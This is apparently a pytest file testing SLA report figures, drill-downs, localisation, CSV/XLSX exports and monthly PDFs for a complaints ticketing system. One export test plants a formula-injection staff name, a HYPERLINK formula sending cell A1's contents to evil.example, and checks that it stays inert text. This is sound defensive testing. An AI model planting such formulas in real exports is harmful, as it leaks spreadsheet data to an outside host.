"""Report figures on hand-built tickets with known answers (working time on the SLA
calendar: November 2026 has no holiday, weekends do not count), their drill-downs, the
pages, CSV/XLSX and the monthly PDF."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from aduan.extensions import db
from inbox.reports import calendar, figures
from inbox.reports.period import bounds
from sla import clocks
from tests import factories
from tests.inbox.helpers import login, make_user
from tests.public.helpers import jpeg
from ticketing.audit import record
from ticketing.filetypes import PhotoError, clean_photo

WIB = ZoneInfo("Asia/Jakarta")
NOW = datetime(2026, 11, 20, 12, 0, tzinfo=WIB).astimezone(UTC)  # a Friday
PERIOD = figures.Filters(*bounds(datetime(2026, 11, 1).date(), datetime(2026, 11, 15).date()))


def wib(day: int, hour: int) -> datetime:
    return datetime(2026, 11, day, hour, tzinfo=WIB).astimezone(UTC)


def make(
    opd: str | None,
    created: datetime,
    *,
    responded: datetime | None = None,
    resolved: datetime | None = None,
    status: str = "routed",
    rating: int | None = None,
    reopened: int = 0,
    start_clocks: bool = True,
    kecamatan: str | None = None,
):
    ticket = factories.ticket(created=created, opd=opd, status=status)
    ticket.kecamatan = kecamatan
    if start_clocks:
        clocks.start(ticket, created)
    if responded:
        ticket.first_responded_at = responded
        clocks.meet(ticket, "first_response", responded)
    ticket.resolved_at, ticket.rating, ticket.reopened = resolved, rating, reopened
    db.session.flush()
    return ticket


@pytest.fixture
def tickets(app):
    """A-C: DLH; D, E: DSDABM; F: returned by DSDABM, waiting in triage; G, H: DLH, open,
    created after the period (backlog only)."""
    t = {
        "A": make("DLH", wib(2, 9), responded=wib(2, 10), resolved=wib(3, 9), status="closed",
                  rating=5, kecamatan="Rungkut"),
        "B": make("DLH", wib(2, 9), responded=wib(4, 9), status="in_progress",
                  kecamatan="Rungkut"),
        "C": make("DLH", wib(6, 20), responded=wib(9, 2), resolved=wib(9, 4), status="closed",
                  rating=3, kecamatan="Gubeng"),
        "D": make("DSDABM", wib(2, 9)),
        "E": make("DSDABM", wib(2, 9), responded=wib(2, 11), status="in_progress", reopened=1),
        "F": make(None, wib(2, 9), status="triage", start_clocks=False),
        "G": make("DLH", wib(19, 9)),
        "H": make("DLH", wib(20, 8), status="waiting"),
    }  # fmt: skip
    record(t["F"], "bounced", actor_kind="officer", opd="DSDABM", at=wib(3, 9))
    db.session.commit()
    return t


def by_key(rows):
    return {row["key"]: row for row in rows}


def test_figures_per_opd_have_the_known_answers(tickets):
    rows = by_key(figures.summary("opd", PERIOD, NOW))
    dlh, dsdabm, triage = rows["DLH"], rows["DSDABM"], rows[""]
    assert (dlh["tickets"], dlh["measured"], dlh["on_time"], dlh["pct_on_time"]) == (3, 3, 2, 66.7)
    # first response 1 h, 48 h (Mon 09 -> Wed 09), 6 h (Fri 20 -> Mon 02, weekend free)
    assert (dlh["median_first_response_h"], dlh["p90_first_response_h"]) == (6.0, 48.0)
    assert (dlh["median_resolution_h"], dlh["p90_resolution_h"]) == (8.0, 24.0)
    assert (dlh["resolved"], dlh["reopened"], dlh["reopen_rate"]) == (2, 0, 0.0)
    assert (dlh["rated"], dlh["csat_avg"], dlh["csat_response_rate"]) == (2, 4.0, 100.0)
    assert [dlh[f"rating_{n}"] for n in range(1, 6)] == [0, 0, 1, 0, 1]
    # D: running and past due (measured, late); E: answered in 2 h, reopened
    assert (dsdabm["tickets"], dsdabm["measured"], dsdabm["on_time"]) == (2, 2, 1)
    assert dsdabm["median_first_response_h"] == dsdabm["p90_first_response_h"] == 2.0
    assert dsdabm["median_resolution_h"] is None
    assert (dsdabm["resolved"], dsdabm["reopened"], dsdabm["reopen_rate"]) == (1, 1, 100.0)
    assert (dsdabm["rated"], dsdabm["csat_avg"], dsdabm["csat_response_rate"]) == (0, None, 0.0)
    # the bounce counts for the OPD that returned the ticket, not where it is now
    assert (dsdabm["bounces"], dlh["bounces"], triage["bounces"]) == (1, 0, 0)
    assert triage["tickets"] == 1 and triage["pct_on_time"] is None


def test_the_response_times_say_how_many_tickets_were_answered(client, tickets):
    rows = by_key(figures.summary("opd", PERIOD, NOW))
    answered = {key: row["responded"] for key, row in rows.items()}
    assert answered == {"DLH": 3, "DSDABM": 1, "": 0}  # D was never answered, F is in triage
    supervisor(client)
    html = client.get(f"/reports/?dim=opd&{ARGS}").get_data(as_text=True)
    assert "metric=responded" in html
    assert ">n</a>)" not in html  # the count, not a bare letter "(n)"
    dsdabm = html[html.index("DSDABM ·") :].split("</tr>")[0]
    assert ">1</a>)</small></td>" in dsdabm.split("metric=responded")[1]


def test_report_figures_are_written_in_the_pages_language(client, tickets):
    """ "66,7%" and "6,0 / 48,0" on Indonesian pages (the public /kinerja already wrote
    them so), "66.7%" on English ones; CSV keeps the plain number."""
    supervisor(client)
    html = client.get(f"/reports/?dim=opd&{ARGS}").get_data(as_text=True)
    dlh = html[html.index("DLH ·") :].split("</tr>")[0]
    assert "<b>66,7%</b>" in dlh and "<td>6,0 / 48,0 <small>" in dlh and "66.7" not in dlh
    trend = client.get(f"/reports/trend?{ARGS}").get_data(as_text=True)
    week = trend[trend.index("<td>2 Nov 2026</td>") :].split("</tr>")[0]
    assert re.search(r"<td>\d+,\d <small>", week) and not re.search(r"<td>\d+\.\d", week), week
    client.get("/lang/en")
    from flask_babel import refresh

    refresh()
    html = client.get(f"/reports/?dim=opd&{ARGS}").get_data(as_text=True)
    assert "<b>66.7%</b>" in html[html.index("DLH ·") :].split("</tr>")[0]
    client.get("/lang/id")
    refresh()


def test_other_dimensions_group_the_same_tickets(tickets):
    assert {k: r["tickets"] for k, r in by_key(figures.summary("kecamatan", PERIOD, NOW)).items()} \
        == {"": 3, "Gubeng": 1, "Rungkut": 2}  # fmt: skip
    week = figures.summary("week", PERIOD, NOW)
    assert [(r["key"], r["tickets"]) for r in week] == [("2026-11-02", 6)]
    assert by_key(figures.summary("month", PERIOD, NOW))["2026-11-01"]["on_time"] == 3
    assert by_key(figures.summary("channel", PERIOD, NOW))["telegram"]["tickets"] == 6
    by_kind = by_key(figures.summary("kind", PERIOD, NOW))
    assert by_kind["complaint"]["median_first_response_h"] == 2.0  # 1, 2, 6, 48 -> rank 2
    only_dlh = figures.Filters(PERIOD.start, PERIOD.end, opd="DLH")
    assert by_key(figures.summary("opd", only_dlh, NOW)).keys() == {"DLH"}


def test_backlog_by_working_age(tickets):
    rows = by_key(figures.backlog("opd", PERIOD, NOW))
    assert rows["DLH"] == {"key": "DLH", "open": 3, "waiting": 1, "lt1": 1, "1to3": 1,
                                "3to5": 0, "5to10": 0, "gt10": 1}  # fmt: skip
    assert (rows["DSDABM"]["open"], rows["DSDABM"]["gt10"]) == (2, 2)
    assert rows[""]["open"] == 1


def numbers(result):
    return sorted(t.number for t in result[1])


def test_every_figure_drills_down_to_its_tickets(tickets):
    t = tickets
    assert numbers(figures.tickets("opd", "DLH", "late", PERIOD, NOW)) == [t["B"].number]
    assert numbers(figures.tickets("opd", "DSDABM", "late", PERIOD, NOW)) == [t["D"].number]
    assert numbers(figures.tickets("opd", "DSDABM", "bounces", PERIOD, NOW)) == [t["F"].number]
    assert numbers(figures.tickets("opd", "", "tickets", PERIOD, NOW)) == [t["F"].number]
    assert numbers(figures.tickets("opd", "DLH", "rating_5", PERIOD, NOW)) == [t["A"].number]
    assert numbers(figures.tickets("opd", "DSDABM", "reopened", PERIOD, NOW)) == [t["E"].number]
    assert numbers(figures.tickets("opd", "DLH", "backlog_lt1", PERIOD, NOW)) == [t["H"].number]
    assert numbers(figures.tickets("opd", "DLH", "waiting", PERIOD, NOW)) == [t["H"].number]
    count, _ = figures.tickets("week", "2026-11-02", "tickets", PERIOD, NOW, limit=2)
    assert count == 6
    with pytest.raises(ValueError):
        figures.tickets("opd", "DLH", "nope", PERIOD, NOW)
    with pytest.raises(ValueError):
        figures.tickets("officer", "x", "tickets", PERIOD, NOW)


def supervisor(client):
    login(client, make_user("supervisor", email="spv@example.org"))
    return client


ARGS = "start=2026-11-01&end=2026-11-15"


def test_the_pages_show_the_figures_and_link_to_the_tickets(client, tickets):
    supervisor(client)
    html = client.get(f"/reports/?dim=opd&{ARGS}").get_data(as_text=True)
    assert "<b>66,7%</b>" in html and "DLH" in html  # Indonesian decimals, as on /kinerja
    assert "metric=late" in html and "/reports/opd/DLH/" in html
    drill = client.get(f"/reports/tickets?dim=opd&key=DLH&metric=late&{ARGS}")
    assert tickets["B"].number in drill.get_data(as_text=True)
    trend = client.get(f"/reports/trend?{ARGS}").get_data(as_text=True)
    for week in ("26 Okt 2026", "2 Nov 2026", "9 Nov 2026"):  # quiet weeks too, in order
        assert f"<td>{week}</td>" in trend, week
    assert 'id="t-csat"' in trend and "Belum ada data" not in trend
    unrated = client.get(f"/reports/trend?{ARGS}&opd=DSDABM").get_data(as_text=True)
    assert 'id="t-count"' in unrated  # tickets but no rating: said so, not a blank chart
    assert 'id="t-csat"' not in unrated and "Belum ada data pada periode ini." in unrated
    for bad in ("dim=nope", "opd=NOPE", "start=2026-13-01", "channel=fax", "kind=spam", "days=0"):
        assert client.get(f"/reports/?{bad}").status_code == 400, bad
    assert client.get(f"/reports/tickets?dim=opd&key=DLH&metric=nope&{ARGS}").status_code == 400


def test_a_period_ending_at_the_end_of_the_calendar_is_400_not_500(client, tickets):
    supervisor(client)
    for period in ("end=9999-12-31", "start=9999-12-30&end=9999-12-31"):
        for page in ("/reports/", "/reports/tickets", "/reports/trend", "/reports/export.csv"):
            assert client.get(f"{page}?{period}").status_code == 400, (page, period)


def test_kinds_and_channels_are_named_in_words_not_codes(client, tickets):
    supervisor(client)
    html = client.get(f"/reports/?dim=kind&{ARGS}").get_data(as_text=True)
    assert "Pengaduan" in html and '"label": "complaint"' not in html
    assert '<option value="info_request" >Permohonan informasi</option>' in html
    html = client.get(f"/reports/?dim=channel&{ARGS}").get_data(as_text=True)
    assert '"label": "telegram"' not in html and '"label": "Telegram"' in html


def test_every_drill_down_is_titled_in_words(client, tickets):
    """A late count opened a page titled "late: DLH · Dinas Lingkungan Hidup" (the
    metric's code); the backlog's age columns did the same ("backlog_1to3: ...")."""
    supervisor(client)
    for metric in figures.METRICS:
        html = client.get(f"/reports/tickets?dim=opd&key=DLH&metric={metric}&{ARGS}").text
        title = re.search(r"<h1>(.*?)</h1>", html, re.S).group(1)
        assert metric not in title and "_" not in title.split(":")[0], (metric, title)
    html = client.get(f"/reports/tickets?dim=opd&key=DLH&metric=late&{ARGS}").text
    assert "<h1>Terlambat: DLH" in html
    html = client.get(f"/reports/tickets?dim=opd&key=DLH&metric=backlog_1to3&{ARGS}").text
    assert "<h1>Terbuka 1-3 hari kerja: DLH" in html
    from flask_babel import refresh

    client.get("/lang/en")
    refresh()  # the test's app context outlives requests and caches the locale
    html = client.get(f"/reports/tickets?dim=opd&key=DLH&metric=backlog_1to3&{ARGS}").text
    assert "<h1>Open 1-3 working days: DLH" in html


def test_the_two_whatsapp_routes_are_two_names_per_channel(app):
    """The per-channel report had two rows both named "WhatsApp" (Twilio's and the Cloud
    API's), which the filter menus above it tell apart."""
    from inbox.reports.keys import labels

    with app.test_request_context():
        named = labels("channel", ["whatsapp", "whatsapp_cloud", "sms"])
    assert named == {"whatsapp": "WhatsApp", "whatsapp_cloud": "WhatsApp (Cloud API)", "sms": "SMS"}


def test_csv_and_xlsx_exports(client, tickets):
    supervisor(client)
    text = client.get(f"/reports/export.csv?dim=opd&{ARGS}").get_data(as_text=True)
    rows = {r["key"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["DLH"]["pct_on_time"] == "66.7" and rows["DLH"]["median_first_response_h"] == "6.0"
    backlog = client.get(f"/reports/export.csv?dim=opd&table=backlog&{ARGS}").get_data(as_text=True)
    assert backlog.splitlines()[0] == "key,label,open,waiting,lt1,1to3,3to5,5to10,gt10"
    data = client.get(f"/reports/export.xlsx?dim=opd&{ARGS}").get_data()
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "DLH")
    assert row[header.index("Persentase tepat janji")] == 66.7 and len(book.worksheets) == 2


def test_exported_names_that_look_like_formulas_stay_text(client, tickets):
    """A staff or officer name is a label in the exports: "=HYPERLINK(...)" must not
    become a live formula in the spreadsheet a supervisor opens."""
    agent = make_user("agent", email="formula@example.org")
    agent.name = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    tickets["A"].assignee_id = agent.id
    db.session.commit()
    supervisor(client)
    text = client.get(f"/reports/export.csv?dim=agent&{ARGS}").get_data(as_text=True)
    labels = [row["label"] for row in csv.DictReader(io.StringIO(text))]
    assert "'" + agent.name in labels
    assert not any(label[:1] in ("=", "+", "-", "@") for label in labels)
    data = client.get(f"/reports/export.xlsx?dim=agent&{ARGS}").get_data()
    summary, backlog = load_workbook(io.BytesIO(data)).worksheets
    assert agent.name in [cell.value for row in summary.iter_rows() for cell in row]
    for sheet in (summary, backlog):
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_monthly_pdf_of_one_opd(client, tickets):
    supervisor(client)
    response = client.get("/reports/opd/DLH/2026-11.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.get_data()[:5] == b"%PDF-"
    assert client.get("/reports/opd/DLH/2026-99.pdf").status_code == 400
    assert client.get("/reports/opd/NOPE/2026-11.pdf").status_code == 404
    with pytest.raises(PhotoError):  # WeasyPrint, now loaded, did not relax photo checks
        clean_photo(jpeg((1200, 900))[:-200])


def test_agents_cannot_read_reports(client, app):
    login(client, make_user("agent", email="agent-r@example.org"))
    assert client.get("/reports/").status_code == 403
    assert client.get("/reports/export.csv").status_code == 403


def test_working_time_matches_the_sla_calendar(app):
    """The SQL rule agrees with sla.calendar over a weekend, a holiday and a closure."""
    from inbox.reports import calendar as report_calendar

    cal = report_calendar.ensure(NOW.date())
    for a, b in (
        (wib(6, 20), wib(9, 2)),
        (datetime(2026, 12, 24, 10, tzinfo=WIB), datetime(2026, 12, 28, 10, tzinfo=WIB)),
        (datetime(2026, 1, 1, 0, tzinfo=WIB), datetime(2026, 3, 31, 0, tzinfo=WIB)),
    ):
        sql = report_calendar.seconds_at(cal, b) - report_calendar.seconds_at(cal, a)
        assert sql == cal.working_time_between(a, b).total_seconds()


def test_the_unit_filter_names_kecamatan_and_kelurahan(client, tickets):
    """An OPD is known by its code; a kecamatan or kelurahan by its name, never by its
    Kemendagri number alone ("KEC-357801")."""
    from sqlalchemy import select

    from ticketing.models import Opd

    unit = db.session.execute(select(Opd).where(Opd.region_code.is_not(None))).scalars().first()
    supervisor(client)
    for path in (f"/reports/?dim=opd&{ARGS}", f"/reports/trend?{ARGS}"):
        html = client.get(path).get_data(as_text=True)
        assert f'<option value="{unit.code}" >{unit.name}</option>' in html, path
        assert '<option value="DLH" >DLH</option>' in html
        assert html.index('value="DLH"') < html.index(f'value="{unit.code}"')  # OPDs first
    html = client.get(f"/reports/?dim=opd&opd={unit.code}&{ARGS}").get_data(as_text=True)
    assert f'<option value="{unit.code}" selected>{unit.name}</option>' in html


def test_an_officer_of_a_group_is_named_by_the_group_not_a_dash(app):
    from inbox.reports import keys
    from ticketing.models import Officer

    desk = Officer(group_code="DESK112", name="Operator 112", channel="telegram", address="91")
    unit = Officer(opd_code="DSDABM", name="Andi", channel="telegram", address="92")
    db.session.add_all([desk, unit])
    db.session.commit()
    found = keys.labels("officer", [str(desk.id), str(unit.id)])
    assert found == {
        str(desk.id): "Operator 112 (Command Center 112)",
        str(unit.id): "Andi (DSDABM)",
    }


def test_dates_picked_the_other_way_round_are_the_same_period(client, tickets):
    """A supervisor who picked "Dari" after "sampai" got the bare 400 page ("Permintaan
    tidak dapat diproses"), with no report and no filter form to correct the dates."""
    supervisor(client)
    for page in ("/reports/", "/reports/trend"):
        response = client.get(f"{page}?start=2026-11-30&end=2026-11-01")
        assert response.status_code == 200, page
        html = response.get_data(as_text=True)
        assert 'value="2026-11-01"' in html and 'value="2026-11-30"' in html


def test_weeks_and_months_are_named_in_words_not_iso_dates(client, tickets):
    """Per week / per month and the weekly trend read "2 Nov 2026" and "Nov 2026"; the
    month read "2026-11-01", a day, and the PDF link "2026-11". URLs and CSV keep ISO."""
    supervisor(client)
    html = client.get(f"/reports/?dim=week&{ARGS}").get_data(as_text=True)
    assert "<td>2 Nov 2026</td>" in html and "<td>2026-11-02</td>" not in html
    assert "key=2026-11-02" in html  # the drill-down link keeps the key
    html = client.get(f"/reports/?dim=month&{ARGS}").get_data(as_text=True)
    assert "<td>Nov 2026</td>" in html and "<td>2026-11-01</td>" not in html
    trend = client.get(f"/reports/trend?{ARGS}").get_data(as_text=True)
    assert "<td>2 Nov 2026</td>" in trend and re.search(r'"label": ?"2 Nov 2026"', trend)
    from inbox.reports import _today

    month = f"{_today():%Y-%m}"
    html = client.get(f"/reports/?dim=opd&{ARGS}").get_data(as_text=True)
    assert f"/{month}.pdf" in html and f">{month}</a>" not in html
    client.get("/lang/en")
    from flask_babel import refresh

    refresh()
    html = client.get(f"/reports/?dim=month&{ARGS}").get_data(as_text=True)
    assert "<td>Nov 2026</td>" in html
    client.get("/lang/id")
    refresh()
    csv = client.get(f"/reports/export.csv?dim=week&{ARGS}").get_data(as_text=True)
    assert "2026-11-02" in csv and "2 Nov 2026" in csv


def test_the_channel_filter_offers_the_channels_tickets_come_in_on(client, tickets):
    """The filter listed the delivery routes: "E-mail" (no ticket comes in by e-mail) but
    not the web form or Open311, so their reports could not be picked out."""
    supervisor(client)
    html = client.get(f"/reports/?{ARGS}").get_data(as_text=True)
    menu = html[html.index('<select name="channel">') :].split("</select>")[0]
    assert ">Formulir web<" in menu and ">Open311<" in menu and ">E-mail<" not in menu
    for channel in ("web", "open311"):
        assert client.get(f"/reports/?channel={channel}&{ARGS}").status_code == 200
        assert client.get(f"/reports/trend?channel={channel}&{ARGS}").status_code == 200


def test_a_period_too_long_says_why_on_the_page(client, tickets):
    """Picking 2020-01-01 to 2026-12-31 gave the bare "Periksa alamat atau isian" page:
    the supervisor could not tell that two years is the limit."""
    supervisor(client)
    response = client.get("/reports/?start=2020-01-01&end=2026-12-31")
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert "Periode laporan paling panjang 2 tahun" in html
    assert "Periksa alamat atau isian" not in html


def test_a_missed_112_acknowledgement_is_not_charged_to_the_assigned_agent(app):
    """An emergency's promise is the 112 desk's acknowledgement: it counted as a late
    promise of whichever agent the ticket was assigned to. The OPD row still counts it."""
    calendar.ensure(NOW.date())
    agent = make_user("agent", email="shift@example.org")
    fire = factories.ticket(created=wib(3, 9), opd="BPBD", kind="emergency")
    pothole = make("DLH", wib(3, 9))  # the agent's own complaint, never answered: late
    fire.assignee_id = pothole.assignee_id = agent.id
    clocks.start(fire, wib(3, 9))  # emergency_ack, long past due at NOW
    db.session.commit()
    by_agent = {row["key"]: row for row in figures.summary("agent", PERIOD, NOW)}
    assert (by_agent[str(agent.id)]["tickets"], by_agent[str(agent.id)]["measured"]) == (2, 1)
    by_opd = {row["key"]: row for row in figures.summary("opd", PERIOD, NOW)}
    assert (by_opd["BPBD"]["measured"], by_opd["BPBD"]["on_time"]) == (1, 0)
    count, late = figures.tickets("agent", str(agent.id), "late", PERIOD, NOW)
    assert (count, [t.id for t in late]) == (1, [pothole.id])
